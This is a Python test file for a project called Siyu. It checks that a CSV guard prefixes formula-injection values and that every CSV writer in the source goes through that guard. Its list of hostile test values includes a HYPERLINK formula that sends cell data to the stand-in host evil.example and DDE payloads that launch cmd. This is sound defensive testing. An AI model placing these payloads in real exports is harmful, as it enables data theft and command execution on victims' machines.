"""CSV formula injection: the guard itself, and every CSV writer of Siyu going through it."""

from __future__ import annotations

import ast
import csv
import io
from decimal import Decimal
from pathlib import Path

import pytest

from siyu import csvsafe

SRC = Path(__file__).resolve().parents[2] / "src" / "siyu"

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n@x",
    "  =1+1",
    "\u3000=1+1",
    "\xa0+1",
    "＝1+1",
    "＋86 139",
    "－2",
    "＠SUM(A1)",
    "'=1+1",
    "''=1+1",
    "=",
    "-",
]
PLAIN = ["王芳", "tb_ouyang", "13957124680", "'0012", "a=b", "1-2", "", "'", "中文 -", "(+86)"]


def evaluable(cell: str) -> bool:
    """What a spreadsheet might evaluate: a dangerous cell not led by the quote prefix."""
    return bool(cell) and cell[0] != "'" and csvsafe.dangerous(cell)


@pytest.mark.parametrize("value", HOSTILE)
def test_hostile_text_is_prefixed_and_comes_back_whole(value: str) -> None:
    cell = csvsafe.safe_cell(value)
    assert cell == "'" + value and not evaluable(cell)
    assert csvsafe.unquote(cell) == value


@pytest.mark.parametrize("value", PLAIN)
def test_plain_text_is_left_alone(value: str) -> None:
    assert csvsafe.safe_cell(value) == value
    assert csvsafe.unquote(value) == value


def test_numbers_stay_numbers() -> None:
    row = [-12, -12.5, Decimal("-12.50"), 0, None, True]
    assert [csvsafe.safe_cell(v) for v in row] == row
    buf = io.StringIO()
    csvsafe.writer(buf).writerow(row)
    assert buf.getvalue() == "-12,-12.5,-12.50,0,,True\r\n"


def test_writers_guard_every_text_cell_header_included() -> None:
    buf = io.StringIO()
    w = csvsafe.DictWriter(buf, fieldnames=["=a", "b"])
    w.writeheader()
    w.writerow({"=a": "@x", "b": -3})
    plain = csvsafe.writer(buf)
    plain.writerows([HOSTILE, PLAIN])
    rows = list(csv.reader(io.StringIO(buf.getvalue())))
    assert rows[0] == ["'=a", "b"] and rows[1] == ["'@x", "-3"]
    assert not any(evaluable(c) for r in (rows[0], *rows[2:]) for c in r)  # -3 is a number
    assert [csvsafe.unquote(c) for c in rows[2]] == HOSTILE
    assert rows[3] == PLAIN


# -- every CSV Siyu writes goes through csvsafe -------------------------------------------------
def _csv_writers(tree: ast.AST) -> list[tuple[int, str]]:
    """Calls that make a CSV writer without csvsafe: ``csv.writer``/``csv.DictWriter``, also
    under another name (``import csv as c``, ``from csv import writer as w``)."""
    modules, names = {"csv"}, {}
    for node in ast.walk(tree):
        if isinstance(node, ast.Import):
            modules |= {a.asname or a.name for a in node.names if a.name == "csv"}
        elif isinstance(node, ast.ImportFrom) and node.module == "csv":
            names |= {a.asname or a.name: a.name for a in node.names}
    found = []
    for node in ast.walk(tree):
        if not isinstance(node, ast.Call):
            continue
        f = node.func
        if isinstance(f, ast.Attribute) and f.attr in ("writer", "DictWriter"):
            if isinstance(f.value, ast.Name) and f.value.id in modules:
                found.append((node.lineno, f"csv.{f.attr}"))
        elif isinstance(f, ast.Name) and names.get(f.id) in ("writer", "DictWriter"):
            found.append((node.lineno, str(names[f.id])))
    return found


def test_every_csv_writer_goes_through_the_guard() -> None:
    bypass = []
    used = []
    internal = []
    for path in sorted(SRC.rglob("*.py")):
        rel = path.relative_to(SRC).as_posix()
        text = path.read_text(encoding="utf-8")
        if rel == "csvsafe.py":
            continue
        bypass += [f"{rel}:{line} {call}" for line, call in _csv_writers(ast.parse(text))]
        if "csvsafe.writer(" in text or "csvsafe.DictWriter(" in text:
            used.append(rel)
        if "csvsafe.internal_writer(" in text:
            internal.append(rel)
    assert not bypass, (
        "CSV written without siyu.csvsafe (formula injection); use csvsafe.writer or "
        f"csvsafe.DictWriter: {bypass}"
    )
    # the one CSV nobody is offered: a workbook's sheet handed to the importer as CSV
    assert internal == ["ingest/workbook.py"], internal
    # the writers known today; a new one shows up here and in the hostile-values test
    assert set(used) >= {
        "accounts/queries.py",
        "demo/exports.py",
        "ingest/service.py",
        "metrics/export.py",
        "privacy/service.py",
        "segments/queries.py",
    }, used


def test_the_enumeration_catches_a_bypass() -> None:
    sneaky = (
        "import csv\nimport csv as c\nfrom csv import DictWriter as D, writer\n"
        "csv.writer(f)\nc.DictWriter(f, [])\nD(f, [])\nwriter(f)\ncsvsafe.writer(f)\n"
    )
    calls = [c for _l, c in sorted(_csv_writers(ast.parse(sneaky)))]
    assert calls == ["csv.writer", "csv.DictWriter", "DictWriter", "writer"]
